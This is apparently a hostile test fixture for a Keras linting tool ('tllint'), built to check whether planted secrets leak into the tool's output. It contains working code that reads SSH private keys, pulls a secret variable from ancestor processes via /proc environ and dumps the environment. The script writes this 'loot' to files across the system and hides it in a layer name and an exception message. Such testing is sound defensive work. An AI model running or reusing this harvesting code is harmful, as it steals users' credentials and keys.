"""A planted `~/.ssh` key and a secret environment variable, left in files (project, HOME,
/dev/shm, /var/tmp, /tmp), in a layer name that the evidence quotes, and in an error message."""
import glob
import os
import subprocess

import numpy as np
import keras

PROJECT = "@PROJECT@"
HOME = "@HOME@"
MARKER = "@MARKER@"


def attempt(label, fn):
    try:
        result = fn()
        print(f"{label}: {str(result)[:40]}")
    except Exception as exc:  # noqa: BLE001 - a hostile script goes on
        print(f"{label} failed: {type(exc).__name__}")


def read_key():
    for path in [os.path.join(HOME, ".ssh", "id_rsa"), os.path.expanduser("~/.ssh/id_rsa"), *glob.glob("/home/*/.ssh/id_*")]:
        try:
            with open(path) as fh:
                return fh.read().replace("\n", " ")
        except OSError:
            continue
    return "no-key"


def token_of_ancestors():
    """The variable from the environment of a process above (tllint's still has it)."""
    pid = os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(b"@SECRET_ENV@="):
                        return item.split(b"=", 1)[1].decode()
        except OSError:
            continue
    return "no-token"


token = os.environ.get("@SECRET_ENV@") or token_of_ancestors()
everything = " ".join(f"{k}={v}" for k, v in os.environ.items())
key = read_key()
if key == "no-key":  # Python's open was refused: a program reads it
    try:
        key = subprocess.run(["cat", os.path.join(HOME, ".ssh", "id_rsa")], capture_output=True, text=True).stdout.replace("\n", " ") or key
    except Exception as exc:  # noqa: BLE001 - a hostile script goes on
        print("cat failed:", type(exc).__name__)
loot = f"{MARKER} {token} {key} {everything}\n"


def write(path):
    with open(path, "w") as fh:
        fh.write(loot)


attempt("project file", lambda: write(os.path.join(PROJECT, f"loot_{MARKER}.txt")))
attempt("shared memory", lambda: write(f"/dev/shm/{MARKER}-loot"))
attempt("var tmp", lambda: write(f"/var/tmp/{MARKER}-loot"))
attempt("home", lambda: write(os.path.join(HOME, f".loot_{MARKER}")))
for target in (f"{PROJECT}/loot_sh_{MARKER}.txt", f"/dev/shm/{MARKER}-loot-sh", f"/tmp/{MARKER}-loot-sh", f"{HOME}/.cache_{MARKER}"):
    attempt(f"shell {target}", lambda target=target: subprocess.run(["sh", "-c", 'printf "%s" "$LOOT" > ' + target], env={"LOOT": loot}).returncode)
os.write(2, loot.encode())  # into the child's stderr

rng = np.random.default_rng(0)
# A head whose layer name carries the token: the evidence of TL301 quotes the output layer's name.
x = rng.random((8, 8)).astype("float32")
y = np.arange(8) % 2
head = keras.Sequential([keras.Input((8,)), keras.layers.Dense(2, activation="softmax", name=f"out_{token}")])
# TL301 on purpose: the evidence quotes the layer name, and `confirmed` shows the step ran.
head.compile(optimizer="adam", loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True))
head.fit(x, y, epochs=1, batch_size=4, verbose=0)

# The data folder is missing: confirm mode feeds synthetic 0..255 batches (TL101 is reported).
train_ds = keras.utils.image_dataset_from_directory("data/train", image_size=(96, 96), batch_size=4)
base = keras.applications.MobileNetV2(alpha=0.35, input_shape=(96, 96, 3), include_top=False, weights="imagenet")
base.trainable = False
inputs = keras.Input((96, 96, 3))
features = keras.layers.GlobalAveragePooling2D()(base(inputs, training=False))
model = keras.Model(inputs, keras.layers.Dense(2, activation="softmax")(features))
model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")


def fail_with_loot(batch, logs):
    # The error message carries the loot: the evidence quotes the script's exception.
    raise RuntimeError(f"could not authenticate {token} with {key}")


model.fit(train_ds, epochs=1, callbacks=[keras.callbacks.LambdaCallback(on_train_batch_begin=fail_with_loot)])
